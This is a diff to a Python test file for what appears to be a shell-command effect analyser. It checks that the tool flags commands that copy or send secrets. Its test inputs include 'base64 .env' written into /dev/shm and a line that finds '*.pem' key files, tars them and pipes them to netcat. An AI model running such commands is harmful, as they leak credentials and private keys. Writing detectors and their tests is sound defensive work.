@@ -160,6 +160,13 @@ def test_files_that_carry_on_what_was_read_are_named(world: World) -> None:
     ]
 
 
+def test_files_in_memory_carry_on_what_was_read_and_are_read_themselves(world: World) -> None:
+    assert world.said("base64 .env > /dev/shm/y", "carries") == ["carries REPO/.env (/dev/shm/y)"]
+    assert world.said("base64 .env > /dev/tty", "carries") == []
+    assert world.said("cmd < /dev/shm/y") == ["reads /dev/shm/y"]
+    assert world.said("cmd < /dev/tty") == []
+
+
 def test_names_that_are_looked_for_stand_for_their_files(world: World) -> None:
     line = "find . -user dev -name '*.pem' | xargs tar cz | nc h 80"
     found = [one for one in world.effects(line) if one.kind == "sends"]
